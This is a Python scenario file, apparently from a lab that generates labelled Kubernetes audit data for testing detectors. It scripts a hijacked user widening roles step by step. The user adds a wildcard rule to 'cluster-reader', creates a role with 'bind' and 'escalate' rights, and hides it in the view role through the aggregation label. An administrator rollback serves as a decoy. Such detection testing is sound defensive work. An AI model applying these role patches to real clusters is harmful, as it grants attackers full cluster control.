"""An existing role is widened step by step: wildcard, the right to escalate, and the aggregation label."""

from lab.client import JSON_PATCH, MERGE
from lab.manifests import role
from lab.story import Scenario, Stage

_ROLES = "/apis/rbac.authorization.k8s.io/v1/clusterroles"


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    every = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}
    with stage.step("add a wildcard rule", thief, "privilege-escalation", ("E08", "E09", "E13", "E14", "E19")):
        stage.must(
            thief.patch(f"{_ROLES}/cluster-reader", [{"op": "add", "path": "/rules/-", "value": every}], JSON_PATCH)
        )
    name = stage.word("view-extras", "telemetry")
    rules = [{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["bind", "escalate"]}]
    with stage.step("slip into an aggregated role", thief, "privilege-escalation", ("E12", "E13", "E19")):
        stage.must(stage.create(thief, role(name, rules)))
        label = {"metadata": {"labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}}}
        stage.must(thief.patch(f"{_ROLES}/{name}", label, MERGE))
    with stage.step("the administrator undoes it", "kubernetes-admin", kind="confounder"):
        admin = stage.admin()
        admin.patch(f"{_ROLES}/cluster-reader", [{"op": "remove", "path": "/rules/1"}], JSON_PATCH)
        admin.delete(f"{_ROLES}/{name}")


SCENARIO = Scenario(
    "widen-role",
    "Existing roles are widened",
    "attack",
    "hide new rights in old roles",
    ("T1098.006",),
    _play,
)
